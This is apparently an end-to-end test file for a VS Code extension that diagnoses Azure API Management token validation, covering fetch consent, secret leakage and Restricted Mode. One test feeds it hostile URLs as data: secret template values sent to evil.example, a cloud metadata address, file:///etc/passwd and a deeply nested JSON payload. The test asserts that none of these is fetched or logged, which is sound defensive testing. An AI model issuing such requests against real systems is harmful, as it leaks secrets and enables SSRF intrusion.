// Whom this machine talks to is the user's decision: hosts that are not Microsoft's, and folders that are not trusted.
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { canary } from '../harness/canary.mjs';
import { Panel } from '../harness/panel.mjs';
import { until } from '../harness/poll.mjs';
import { searchFiles } from '../harness/search-files.mjs';
import { startSession } from '../harness/session.mjs';
import { ids, makeTenant } from '../harness/tenant.mjs';

const issuer = 'https://identity.shop.example';
const configuration = `${issuer}/.well-known/openid-configuration`;
const policy = element => `<policies>\n    <inbound>\n        ${element}\n    </inbound>\n</policies>\n`;
const question = 'Fetch metadata and signing keys from identity.shop.example?';
const sessions = [];

/** A session that is stopped at the end. */
const start = async options => {
  const session = await startSession(options);
  sessions.push(session);
  return session;
};

after(async () => {
  for (const session of sessions) await session.stop();
});

test('a host that is not one of Microsoft’s is asked only after the user agreed', async () => {
  const { workbench, metadata, screenshot } = await start({
    name: 'consent',
    files: { 'policy.xml': policy(`<validate-jwt header-name="Authorization"><openid-config url="${configuration}" /></validate-jwt>`) },
    documents: { [configuration]: { issuer, jwks_uri: `${issuer}/keys` }, [`${issuer}/keys`]: { keys: [] } },
  });
  await workbench.openFile('policy.xml');
  await workbench.command('APIM Token Doctor: Show Tenant Metadata');
  await workbench.answer(question, 'Cancel');
  await workbench.notification(configuration).first().waitFor(); // it says what is missing
  assert.deepEqual(metadata.asked, []);

  await workbench.front('policy.xml');
  await workbench.command('APIM Token Doctor: Show Tenant Metadata');
  await screenshot('question');
  await workbench.answer(question, 'Fetch');
  await until('the documents to be asked for', () => metadata.asked.includes(`${issuer}/keys`));
  assert.deepEqual(metadata.asked, [configuration, `${issuer}/keys`]);
});

test('one question shows every address of a policy; values of the user’s own files leave in none, and stand in no log', async () => {
  const secret = 'SuperSecretValue123';
  const marked = '2f4cbd1e-9d0e-4c57-b7a1-5a1d7d0e4c99';
  const nested = `${issuer}/nested`;
  const files = path.join(mkdtempSync(path.join(tmpdir(), 'named-values-')), 'values.json');
  writeFileSync(files, JSON.stringify({ secret, marked: { value: marked, secret: true }, tenant: ids.tenant }));
  const urls = [
    'https://evil.example/{{secret}}/.well-known/openid-configuration',
    'https://evil.example/x?{{marked}}',
    'https://169.254.169.254/{{tenant}}',
    'file:///etc/passwd',
    nested,
    configuration,
  ];
  // Deeper than anything that writes JSON goes.
  const deep = Buffer.from(`{"issuer":"x","deep":${'['.repeat(60_000)}${']'.repeat(60_000)}}`);
  const { workbench, metadata, page, profile, screenshot, halt } = await start({
    name: 'addresses',
    canary: true,
    settings: { 'apimTokenDoctor.namedValueFiles': [files] },
    files: {
      'policy.xml': policy(
        `<validate-jwt header-name="Authorization">${urls.map(url => `<openid-config url="${url}" />`).join('')}</validate-jwt>`,
      ),
    },
    documents: { [configuration]: { issuer, jwks_uri: `${issuer}/keys` }, [`${issuer}/keys`]: { keys: [] }, [nested]: deep },
  });
  await workbench.openFile('policy.xml');
  await workbench.command('APIM Token Doctor: Show Tenant Metadata');
  const dialog = page.locator('.monaco-dialog-box').filter({ hasText: 'from 2 hosts?' });
  await dialog.waitFor();
  const text = await dialog.innerText();
  for (const address of [`https://169.254.169.254/${ids.tenant} (Careful:`, nested, configuration]) assert.ok(text.includes(address), text);
  for (const hidden of [secret, marked, 'evil.example', 'file:']) assert.ok(!text.includes(hidden), text);
  await screenshot('question');
  await workbench.answer('from 2 hosts?', 'Fetch');
  await until('the documents to be asked for', () => metadata.asked.includes(`${issuer}/keys`));
  // The document that is nested too deep stopped nothing: another one is shown.
  await workbench.line('jwks_uri').waitFor();
  await workbench.front('policy.xml');
  await workbench.command('APIM Token Doctor: Explain Gateway Error');
  const input = page.locator('.quick-input-widget input[placeholder^="IDX"]');
  await input.fill('IDX20803: Unable to obtain configuration from: https://evil.example/x');
  await page.keyboard.press('Enter');
  await new Panel(workbench).shows('What your text means', 'IDX20803');
  await halt();
  assert.deepEqual(
    metadata.asked.filter(address => address.includes('evil.example')),
    [],
  );
  // Every log stands at the trace level; the values are the user's, so the only file that holds them is the user's own.
  const found = searchFiles(profile.dir, { canary, secret, marked, written: `Fetched ${configuration}` });
  assert.ok(
    found.canary.some(name => /logs\/.*\.log$/.test(name)),
    'the search reaches the logs',
  );
  assert.ok(
    found.written.some(name => /logs\/.*\.log$/.test(name)),
    'the log says what was fetched',
  );
  assert.deepEqual([found.secret, found.marked], [[], []]);
});

test('in Restricted Mode a token is decoded and judged, and nothing is fetched', async () => {
  const tenant = await makeTenant();
  const { workbench, metadata, screenshot } = await start({
    name: 'restricted',
    restricted: true,
    files: { 'policy.xml': policy(`<validate-azure-ad-token tenant-id="${ids.tenant}" />`) },
    documents: tenant.documents,
  });
  await workbench.openFile('policy.xml');
  await workbench.command('APIM Token Doctor: Why 401? Decode and Validate Token');
  await workbench.pasteMasked(await tenant.mint(1, 'externalId'));
  const panel = new Panel(workbench);
  await panel.shows('401', 'External ID v1.0');
  await panel.tells("Gateway's text", 'IDX40001');
  await workbench.front('policy.xml');
  await workbench.command('APIM Token Doctor: Show Tenant Metadata');
  await workbench.notification('In Restricted Mode no metadata is fetched').first().waitFor();
  await screenshot('message');
  assert.deepEqual(metadata.asked, []);
});
